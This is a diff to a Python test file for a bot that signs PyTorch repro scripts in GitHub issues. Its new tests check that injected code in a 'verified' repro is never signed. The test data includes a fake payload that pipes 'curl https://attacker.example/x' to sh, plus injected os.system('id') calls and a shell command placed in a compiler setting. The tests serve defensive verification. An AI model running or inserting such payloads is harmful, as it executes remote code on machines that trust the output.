@@ -18,7 +18,7 @@ from bot.report.state import read
 from bot.tracker.base import TrackerError
 from bot.tracker.github import ACTIONS_BOT_LOGIN, GitHubTracker
 from tests.ghstub.fixtures import BOT_LOGIN, BOT_TOKEN, REPO, make_client
-from tests.ghstub.rundir import check_row, failing_run, failure_record, record_of, report_of, write_run
+from tests.ghstub.rundir import REPRO, check_row, failing_run, failure_record, record_of, report_of, write_run
 
 
 def tracker(stub, **kw) -> GitHubTracker:
@@ -138,7 +138,7 @@ def test_a_malformed_known_block_is_dropped_alone(ghstub, tmp_path):
 
 def test_known_blocks_of_every_bad_shape_are_refused_by_the_check():
     signature = {"failure_class": "accuracy", "verified": True, "culprit_ops": ["aten.relu"]}
-    block = known.block_of(record_of({**failure_record(check_row()), "signature": signature}), "print(1)\n").to_json()
+    block = known.block_of(record_of({**failure_record(check_row()), "signature": signature}), REPRO).to_json()
     assert known.check_block(block) is None and known.read_block(block).to_json() == block
     no_ops = {**block, "record": {**block["record"], "culprit": {"bisect": "lowerings: relu"}}}
     assert known.check_block(no_ops) is None and known.read_block(no_ops).record.culprit.ops == []  # both agree
@@ -149,7 +149,7 @@ def test_known_blocks_of_every_bad_shape_are_refused_by_the_check():
                    {"check_config": {"k": 1}}, {"sig": 5}, {"sig": "A" * 101}, {"sig": "not base64!"},
                    {"sig": ["x"]}):
         assert known.check_block({**block, **change}) is not None, change
-    signed = known.signed(known.read_block(block), signing.Signer(signing.generate()[0])).to_json()
+    signed = known.signed(known.read_block(block), signing.Signer(signing.generate()[0]), 3, []).to_json()
     assert known.check_block(signed) is None and known.read_block(signed).to_json() == signed
 
 
@@ -219,6 +219,68 @@ def known_collect(t, said):
     from bot.report import known as trusted
 
     return trusted.collect(t, "minify-bot", torch="2.13.0+cpu", public_key=PUBLIC, say=said.append)
+
+
+PAYLOAD = "import os\nos.system('curl https://attacker.example/x | sh')\n"
+
+
+def _run_with_repro(path, text: str, started="2026-11-01T00:00:00Z"):
+    """A verified failure whose check job wrote ``text`` as its repro.py (model code ran there)."""
+    c = check_row("mlp_relu")
+    return write_run(path, [c], {c["id"]: verified(failure_record(c), "aten.relu.default")}, started=started,
+                     repro_text=text)
+
+
+@pytest.mark.parametrize("where", ["top level", "forward", "load_args", "config"])
+def test_the_report_never_signs_a_payload_the_check_job_put_in_a_verified_repro(ghstub, tmp_path, monkeypatch,
+                                                                                where):
+    """One nightly's model code writes a "verified" record whose repro.py carries a payload. The
+    report signs only its own rendering of the graph and inputs: a payload beside them (or a setting
+    that names a program) is left out, and one inside them (a call that is not a torch op, a reader
+    argument that is not a literal) leaves the issue with no known repro at all. Nothing the next
+    nightly would run holds the payload."""
+    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
+    text = {"top level": REPRO + PAYLOAD,
+            "forward": REPRO.replace("relu = torch.ops.aten.relu.default(arg0_1)",
+                                     "relu = __import__('os').system('id')"),
+            "load_args": REPRO.replace("reader.tensor(buf0, (4, 8), is_leaf=True)",
+                                       "reader.tensor(buf0, (4, 8), is_leaf=__import__('os').system('id'))"),
+            "config": REPRO.replace("torch._inductor.config.cpp.inject_relu_bug_TESTING_ONLY = 'accuracy'",
+                                    "torch._inductor.config.cpp.cxx = ('sh', '-c', 'id')")}[where]
+    assert text != REPRO
+    report(_run_with_repro(tmp_path / "r1", text), ghstub)
+    (issue,) = bug_issues(ghstub)
+    entry = _entry_of(issue)
+    if where in ("top level", "config"):
+        assert entry is not None and known.unverified(entry, PUBLIC) is None   # the graph is kept, signed ...
+        assert "os.system" not in entry.repro and "attacker" not in entry.repro   # ... the payload is not
+        assert "cxx" not in entry.repro and "'sh'" not in entry.repro
+        assert "torch.ops.aten.relu.default(arg0_1)" in entry.repro
+    else:
+        assert entry is None and "known" not in fp.parse_marker(issue["body"])
+
+
+def test_a_signed_block_copied_under_another_bot_issue_does_not_verify(ghstub, tmp_path, monkeypatch):
+    """The bot's signature binds the issue's number and its check keys: a genuine block moved into
+    another bot issue (any workflow can edit them as the bot's login), or given more checks to stand
+    in for, is dropped before minify."""
+    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
+    report(verified_run(tmp_path / "r1", "mlp_relu"), ghstub)
+    report(verified_run(tmp_path / "r2", "convnet", "2026-11-02T00:00:00Z", "aten.log1p.default"), ghstub)
+    first, second = sorted(bug_issues(ghstub), key=lambda i: i["number"])
+    assert known.unverified(_entry_of(first), PUBLIC) is None
+    moved = {**fp.parse_marker(second["body"]), "known": fp.parse_marker(first["body"])["known"]}
+    edit(ghstub, second["number"], with_marker(second["body"], moved), token=BOT_TOKEN)
+    widened = fp.parse_marker(first["body"])
+    widened["checks"] = [*widened["checks"], "v1-check:" + "0" * 20]
+    edit(ghstub, first["number"], with_marker(first["body"], widened), token=BOT_TOKEN)
+    after = {i["number"]: i for i in bug_issues(ghstub)}
+    for n in (first["number"], second["number"]):
+        assert known.unverified(_entry_of(after[n]), PUBLIC) == "signature does not verify"
+    t = tracker(ghstub)
+    said = []
+    assert known_collect(t, said) == [] and len(said) == 2
+    t.close()
 
 
 def test_a_malformed_dashboard_history_starts_again_with_a_warning(ghstub, tmp_path):
